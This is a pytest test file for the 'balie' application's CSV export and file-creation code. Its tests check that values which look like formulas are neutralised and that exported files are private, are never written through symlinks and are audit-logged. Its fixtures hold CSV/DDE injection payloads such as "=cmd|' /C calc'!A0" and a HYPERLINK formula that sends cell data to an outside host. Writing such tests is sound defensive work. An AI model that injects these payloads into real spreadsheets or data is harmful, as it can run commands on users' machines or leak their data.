"""Files balie writes: CSV that Excel opens runs nothing, and every file is new, the
owner's, never through a symlink, whole or absent, and logged exactly when written."""

from __future__ import annotations

import csv
import errno
import io
import os
import stat
from contextlib import contextmanager
from datetime import datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from balie.app import make_app
from balie.cli import main
from balie.db import Access, open_database
from balie.db import files as files_module
from balie.db.connection import OWNER_ONLY
from balie.db.errors import StoreError
from balie.db.files import create_file, write_export
from balie.db.inquiries import InquiryInput, save_inquiry
from balie.db.reference import load_reference
from balie.domain.spreadsheet import FORMULA_START, NUMBER, cell, csv_text
from balie.domain.timekeeping import AMSTERDAM
from tests.conftest import FROZEN_NOW, fill_fixture, lead, member

# --- the CSV writer ------------------------------------------------------------------

HOSTILE = {
    # table, the name it had, what it is called now
    "village": ("Elp", '=HYPERLINK("https://e.x/?"&A1;"Elp")'),
    "area": ("Beilen", "\t=1+1"),
    "route": ("Maatschappelijk werk", "-2+3+cmd|' /C calc'!A0"),
    "channel": ("Telefoon", "\r=1+1"),
    "topic": ("Financiën", "@SUM(1+1)"),
    "outcome": ("Informatie en advies", "+1+1"),
    "directory_entry": ("Actium", "＝1+1"),  # the fixture's referral goes to the first
}


def risky(value: str) -> bool:
    """A cell a spreadsheet would take as a formula."""
    return value.startswith(FORMULA_START) and not NUMBER.fullmatch(value)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""),
                           delimiter=";"))


def assert_safe(text: str, *names: str) -> list[list[str]]:
    rows = cells(text)
    found = {value for row in rows for value in row}
    assert not [value for value in found if risky(value)]
    for name in names:
        assert "'" + name in found, name  # shown as the text it is
    return rows


@pytest.mark.parametrize("text", [name for _, name in HOSTILE.values()]
                         + ["=1", "+", "-", "@", "\n=1", "-1+2", "+31 6 12345678"])
def test_text_that_could_start_a_formula_is_text(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("number", ["0", "12", "-12", "+3", "-12,5", "12,5", "-12%", "8%"])
def test_numbers_stay_numbers(number):
    assert cell(number) == number


def test_typed_values_are_dutch():
    assert [cell(v) for v in (None, 3, -2, 12.5, -0.25, True)] == [
        "", "3", "-2", "12,5", "-0,25", "ja"]


@given(st.lists(st.lists(st.text(max_size=20), max_size=5), max_size=5))
def test_no_cell_of_any_text_is_a_formula_and_every_cell_reads_back(rows):
    back = cells(csv_text(rows))
    assert len(back) == len(rows)
    for row, read in zip(rows, back):
        assert len(read) == len(row)
        for value, got in zip(row, read):
            assert not risky(got)
            assert got == value or got == "'" + value


def poison_names(db) -> None:
    with db.write():
        for table, (old, new) in HOSTILE.items():
            assert db.execute(f"UPDATE {table} SET name = ? WHERE name = ?",
                              [new, old]).rowcount == 1, table
        db.execute("UPDATE route SET short_name = '+kort' WHERE code = 'social_work'")


@pytest.fixture
def hostile_db(db_path):
    """The fixture's inquiries (and two in Elp a year earlier: a negative change), with
    every reference name that can reach a CSV beginning like a formula."""
    db = open_database(db_path)
    fill_fixture(db)
    ref = load_reference(db)
    elp = ref.villages.named("Elp")
    staff = member(db, "rapport")
    for day in (10, 11):
        save_inquiry(db, InquiryInput(
            channel_id=ref.channels.active[0].id, village_id=elp.id,
            route_id=ref.route("desk").id, topic_ids=(ref.topics.active[0].id,)),
            staff, datetime(2025, 3, day, 10, tzinfo=AMSTERDAM))
    poison_names(db)
    yield db
    db.close()


NAMES = [name for table, (_, name) in HOSTILE.items() if table in ("village", "route")]


@pytest.mark.parametrize("by", ["village", "area", "channel", "topic", "referral"])
def test_report_csv_runs_nothing_and_keeps_numbers(hostile_db, db_path, tmp_path, capsys, by):
    target = tmp_path / f"{by}.csv"
    assert main(["--db", str(db_path), "report", "--month", "2026-03", "--by", by,
                 "--format", "csv", "--output", str(target)]) == 0
    name = {"village": HOSTILE["village"][1], "area": HOSTILE["area"][1],
            "channel": HOSTILE["channel"][1], "topic": HOSTILE["topic"][1],
            "referral": HOSTILE["directory_entry"][1]}[by]
    # (By referral the columns are the routes that name entries: no team's.)
    routes = [] if by == "referral" else [HOSTILE["route"][1]]
    rows = assert_safe(target.read_bytes().decode("utf-8-sig"), name, *routes)
    if by == "village":
        header = rows[2]
        elp = dict(zip(header, next(r for r in rows if r and r[0] == "'" + name)))
        assert (elp["Totaal"], elp["Verschil (%)"]) == ("1", "-50,0")  # a number
    # The same document on stdout (a pipe here) is the same bytes.
    assert main(["--db", str(db_path), "report", "--month", "2026-03", "--by", by,
                 "--format", "csv"]) == 0
    assert capsys.readouterr().out.encode("utf-8") == target.read_bytes()


def test_factsheet_csv_runs_nothing(hostile_db, db_path, tmp_path):
    target = tmp_path / "factsheets.csv"
    assert main(["--db", str(db_path), "report", "--year", "2026", "--factsheet",
                 "--format", "csv", "--output", str(target)]) == 0
    assert_safe(target.read_bytes().decode("utf-8-sig"), HOSTILE["route"][1])


def test_audit_csv_runs_nothing(hostile_db, db_path, tmp_path):
    db = hostile_db
    # Rows as an older balie (or another program) could have left them.
    hostile = member(db, "=cmd|' /C calc'!A0")
    with db.write():
        db.execute("INSERT INTO audit_log (at, staff_id, action, detail, origin) "
                   "VALUES (?, ?, 'export', '=1+1', '@host')",
                   [(FROZEN_NOW - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%SZ"),
                    hostile.staff_id])
    target = tmp_path / "log.csv"
    assert main(["--db", str(db_path), "audit", "--from", "1-1-2026", "--format", "csv",
                 "--output", str(target)]) == 0
    assert_safe(target.read_bytes().decode("utf-8-sig"), "=cmd|' /C calc'!A0", "=1+1",
                "@host")


async def test_the_screen_export_runs_nothing(hostile_db, db_path, tmp_path, monkeypatch):
    monkeypatch.setenv("BALIE_EXPORT_DIR", str(tmp_path / "export"))
    lead(hostile_db)
    app = make_app(db_path, username="test.teamleider",
                   clock=lambda: datetime(2026, 4, 15, 10, tzinfo=AMSTERDAM))
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        await pilot.press("f2")
        await pilot.pause()
        await pilot.press("p", "p", "left", "e")  # March, exported
        for _ in range(3):
            await pilot.app.workers.wait_for_complete()
            await pilot.pause()
        await pilot.press("e")  # again: a second file, the first is kept
        for _ in range(3):
            await pilot.app.workers.wait_for_complete()
            await pilot.pause()
    folder = tmp_path / "export"
    first = folder / "balie-village-2026-03-01-2026-03-31.csv"
    second = folder / "balie-village-2026-03-01-2026-03-31-2.csv"
    assert set(folder.iterdir()) == {first, second}
    for made in (first, second):
        assert stat.S_IMODE(made.stat().st_mode) == 0o600
        assert_safe(made.read_bytes().decode("utf-8-sig"), HOSTILE["village"][1])
    assert stat.S_IMODE(first.parent.stat().st_mode) == 0o700
    logged = hostile_db.execute("SELECT detail FROM audit_log WHERE action = 'export' "
                                "ORDER BY id").fetchall()
    assert [detail.rsplit(" naar ", 1)[1] for (detail,) in logged] == [str(first),
                                                                       str(second)]


# --- creating files ------------------------------------------------------------------


@contextmanager
def umask(mask: int):
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("mask", [0o000, 0o022, 0o077], ids=oct)
def test_a_new_file_is_the_owners_whatever_the_umask(tmp_path, mask):
    import grp

    group = grp.getgrgid(os.getgid()).gr_name if os.getgid() else "users"
    with umask(mask):
        mine = create_file(tmp_path / "mijn.csv", b"a;b\r\n")
        shared = create_file(tmp_path / "groep.db", b"x", access=Access(group))
    assert mode(mine) == 0o600 and mine.read_bytes() == b"a;b\r\n"
    assert mode(shared) == 0o660 and shared.stat().st_gid == grp.getgrnam(group).gr_gid
    assert sorted(p.name for p in tmp_path.iterdir()) == ["groep.db", "mijn.csv"]


def test_an_existing_file_or_symlink_is_never_written_through(tmp_path):
    other = tmp_path / "van-iemand-anders.txt"
    other.write_text("blijft")
    link = tmp_path / "export.csv"
    link.symlink_to(other)
    existing = tmp_path / "bestaat.csv"
    existing.write_text("oud")
    for target in (link, existing):
        with pytest.raises(StoreError, match="bestaat al"):
            create_file(target, b"nieuw")
    assert other.read_text() == "blijft" and existing.read_text() == "oud"
    # Asked to replace: the name gets the new file, the symlink's target is untouched.
    create_file(link, b"nieuw", replace=True)
    create_file(existing, b"nieuw", replace=True)
    assert not link.is_symlink() and link.read_bytes() == b"nieuw" and mode(link) == 0o600
    assert existing.read_bytes() == b"nieuw" and other.read_text() == "blijft"
    # Numbered: the next free name.
    assert create_file(existing, b"3", numbered=True).name == "bestaat-2.csv"
    assert create_file(existing, b"4", numbered=True).name == "bestaat-3.csv"


def test_a_file_that_appears_meanwhile_is_not_replaced(tmp_path, monkeypatch):
    target = tmp_path / "export.csv"
    real = files_module.NewFile.write

    def write(self, data):
        real(self, data)
        target.write_text("gelijktijdig")  # another program, between check and name

    monkeypatch.setattr(files_module.NewFile, "write", write)
    with pytest.raises(StoreError, match="bestaat al"):
        create_file(target, b"van balie")
    assert target.read_text() == "gelijktijdig"
    assert [p.name for p in tmp_path.iterdir()] == ["export.csv"]  # no partial file


def failing_write(number: int):
    def write(self, data):
        with open(self.path, "wb") as file:
            file.write(data[:3])  # half of it, then the disk is full
        raise OSError(number, os.strerror(number))
    return write


def test_a_full_disk_leaves_nothing_and_logs_nothing(db, tmp_path, monkeypatch):
    actor = lead(db)
    tmp_path = tmp_path / "uit"
    tmp_path.mkdir()
    monkeypatch.setattr(files_module.NewFile, "write", failing_write(errno.ENOSPC))
    with pytest.raises(StoreError, match="schijf is vol"):
        write_export(db, actor, tmp_path / "maart.csv", b"a;b;c\r\n", FROZEN_NOW,
                     detail="rapport")
    assert list(tmp_path.iterdir()) == []
    assert db.execute("SELECT count(*) FROM audit_log WHERE action = 'export'"
                      ).fetchone()[0] == 0


def test_an_export_whose_log_fails_is_not_left_behind(db, tmp_path, monkeypatch):
    actor = lead(db)
    tmp_path = tmp_path / "uit"
    tmp_path.mkdir()

    def refused(*args, **kwargs):
        raise StoreError("De database is bezet.")

    monkeypatch.setattr(files_module, "audit", refused)
    with pytest.raises(StoreError, match="bezet"):
        write_export(db, actor, tmp_path / "maart.csv", b"a;b\r\n", FROZEN_NOW,
                     detail="rapport")
    assert list(tmp_path.iterdir()) == []


def test_written_and_logged_together(db, tmp_path):
    actor = lead(db)
    placed = write_export(db, actor, tmp_path / "maart.csv", b"a\r\n", FROZEN_NOW,
                          detail="rapport village")
    (detail,) = db.execute("SELECT detail FROM audit_log WHERE action = 'export'"
                           ).fetchone()
    assert detail == f"rapport village naar {placed}" and placed.read_bytes() == b"a\r\n"
    assert OWNER_ONLY.file_mode == mode(placed)


@pytest.mark.parametrize("command", [
    ["report", "--format", "csv"],
    ["audit", "--format", "csv"],
])
def test_the_command_line_replaces_only_with_force(made_db, tmp_path, capsys, command):
    target = tmp_path / "uit.csv"
    target.write_text("oud")
    os.chmod(target, 0o644)
    assert main(["--db", str(made_db), *command, "--output", str(target)]) == 1
    err = capsys.readouterr().err
    assert "bestaat al" in err and "--force" in err and target.read_text() == "oud"
    assert main(["--db", str(made_db), *command, "--output", str(target), "--force"]) == 0
    assert target.read_bytes().startswith(b"\xef\xbb\xbf") and mode(target) == 0o600


def test_a_report_that_could_not_be_written_is_not_logged(made_db, tmp_path, capsys,
                                                           monkeypatch):
    monkeypatch.setattr(files_module.NewFile, "write", failing_write(errno.EIO))
    assert main(["--db", str(made_db), "report", "--output", str(tmp_path / "x.csv")]) == 1
    assert "schijffout" in capsys.readouterr().err
    db = open_database(made_db)
    assert db.execute("SELECT count(*) FROM audit_log WHERE action = 'export'"
                      ).fetchone()[0] == 0
    db.close()
